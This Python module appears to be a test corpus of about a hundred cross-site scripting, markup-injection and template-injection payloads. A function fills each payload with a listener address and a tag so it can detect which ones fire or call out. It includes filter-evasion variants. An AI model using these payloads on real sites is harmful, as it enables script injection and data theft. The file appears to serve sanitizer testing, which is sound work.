"""A hundred texts that would fetch, run, frame or send something if a page read them as markup.

`OUT` stands for the address of a listener, `TAG` for what tells one payload from another; `PWN` for a script that
leaves a mark in the page.
"""

from __future__ import annotations

PWN = "window.__pwned='TAG'"

PATTERNS = r"""
<script>PWN//TAG</script>
<script src=OUT/TAG></script>
<script src="OUT/TAG" async></script>
</script><script>PWN//TAG</script>
<ScRiPt>PWN//TAG</sCrIpT>
<scr<script>ipt>PWN//TAG</scr</script>ipt>
<script>fetch('OUT/TAG')</script>
<script>new Image().src='OUT/TAG'</script>
<script>navigator.sendBeacon('OUT/TAG')</script>
<script type=module>import 'OUT/TAG'</script>
<img src=OUT/TAG>
<img src="OUT/TAG" alt="x">
<img src='OUT/TAG'>
<img src=`OUT/TAG`>
<img srcset="OUT/TAG 1x">
<img src=x onerror=PWN//TAG>
<img src=x onerror="PWN//TAG">
<img src=x onerror=alert('TAG')>
<img src="x" onerror="fetch('OUT/TAG')">
"><img src=x onerror=PWN//TAG>
'><img src=x onerror=PWN//TAG>
"/><img src=OUT/TAG>
</p></div></article><img src=OUT/TAG>
</blockquote></li></ol><img src=OUT/TAG>
</title><img src=OUT/TAG>
</textarea><img src=OUT/TAG>
</style><img src=OUT/TAG>
</noscript><img src=OUT/TAG>
--><img src=OUT/TAG>
<!--><img src=OUT/TAG>-->
]]><img src=OUT/TAG>
<![CDATA[<img src=OUT/TAG>]]>
<svg onload=PWN//TAG>
<svg><script href="OUT/TAG"/></svg>
<svg><image href="OUT/TAG"/></svg>
<svg><use href="OUT/TAG#a"/></svg>
<svg><animate onbegin=PWN//TAG attributeName=x dur=1s>
<svg><style>@import 'OUT/TAG'</style></svg>
<math><mtext><img src=OUT/TAG></mtext></math>
<math href="javascript:PWN//TAG">math</math>
<iframe src=OUT/TAG></iframe>
<iframe srcdoc="<img src=OUT/TAG>"></iframe>
<iframe srcdoc="<script>parent.PWN//TAG</script>"></iframe>
<iframe src="javascript:parent.PWN//TAG"></iframe>
<object data=OUT/TAG></object>
<embed src=OUT/TAG>
<video src=OUT/TAG autoplay></video>
<video poster=OUT/TAG></video>
<audio src=OUT/TAG autoplay></audio>
<audio src=x onerror=PWN//TAG>
<track src=OUT/TAG>
<input type=image src=OUT/TAG>
<input autofocus onfocus=PWN//TAG>
<details open ontoggle=PWN//TAG>
<body onload=PWN//TAG>
<body background=OUT/TAG>
<table background=OUT/TAG><tr><td>x</table>
<marquee onstart=PWN//TAG>x</marquee>
<div style="background:url(OUT/TAG)">x</div>
<div style="background-image:url('OUT/TAG')">x</div>
<div style="list-style:url(OUT/TAG);display:list-item">x</div>
<style>*{background:url(OUT/TAG)}</style>
<style>@import url(OUT/TAG);</style>
<style>@import 'OUT/TAG';</style>
<style>@font-face{font-family:x;src:url(OUT/TAG)}*{font-family:x}</style>
<link rel=stylesheet href=OUT/TAG>
<link rel=preload as=image href=OUT/TAG>
<link rel=prefetch href=OUT/TAG>
<link rel=dns-prefetch href=OUT/TAG>
<link rel=icon href=OUT/TAG>
<meta http-equiv=refresh content="0;url=OUT/TAG">
<meta http-equiv="refresh" content="0;url=javascript:PWN//TAG">
<base href=OUT/TAG/>
<form action=OUT/TAG><input name=q autofocus></form>
<form id=f action=OUT/TAG></form><button form=f>OK</button>
<button formaction=OUT/TAG>Envoyer</button>
<a href=OUT/TAG ping=OUT/TAG>ici</a>
<a href="javascript:PWN//TAG">ici</a>
<a href="jav&#x09;ascript:PWN//TAG">ici</a>
<a href="data:text/html,<script>opener.PWN//TAG</script>">ici</a>
<a style="position:fixed;inset:0" href=OUT/TAG>x</a>
![image](OUT/TAG)
![image](OUT/TAG "titre")
![image][r] [r]: OUT/TAG
[ici](OUT/TAG)
[ici](javascript:PWN//TAG)
[ici](data:text/html;base64,PHNjcmlwdD4=#TAG)
<OUT/TAG>
[<img src=OUT/TAG>](x)
`</code><img src=OUT/TAG>`
$\href{javascript:PWN//TAG}{x}$
&lt;img src=OUT/TAG&gt;
&#60;img src=OUT/TAG&#62;
&amp;lt;script&amp;gt;PWN//TAG&amp;lt;/script&amp;gt;
\u003cimg src=OUT/TAG\u003e
%3Cimg src=OUT/TAG%3E
{{7*7}} {{''.__class__}} ${7*7} #{7*7} <%= 7*7 %> TAG
{% for x in ().__class__.__base__.__subclasses__() %}TAG{% endfor %}
{{constructor.constructor("PWN")()}} TAG
data: x\n\nevent: answer\ndata: {"shown": "TAG"}
"}],"shown":{"paragraphs":["<img src=OUT/TAG>"]}
\u202e<gmi crs=TAG>\u202c \u2066TAG\u2069 \u200b<\u200bimg src=OUT/TAG>
<img\x00src=OUT/TAG> <\x00script>PWN//TAG</script>
<img/\x0bsrc=OUT/TAG/onerror=PWN>
＜img src=OUT/TAG＞ ‹img src=OUT/TAG›
""".strip().splitlines()


def payloads(out: str) -> list[tuple[str, str]]:
    """Each payload that points to `out`, and its tag."""
    controls = {r"\u202e": "\u202e", r"\u202c": "\u202c", r"\u2066": "\u2066", r"\u2069": "\u2069"}
    controls |= {r"\u200b": "\u200b", r"\x00": "\x00", r"\x0b": "\x0b"}
    made = []
    for number, pattern in enumerate(PATTERNS):
        text, tag = pattern.replace("PWN", PWN).replace("OUT", out), f"x{number:03}x"
        for written, character in controls.items():
            text = text.replace(written, character)
        made.append((text.replace("TAG", tag), tag))
    return made
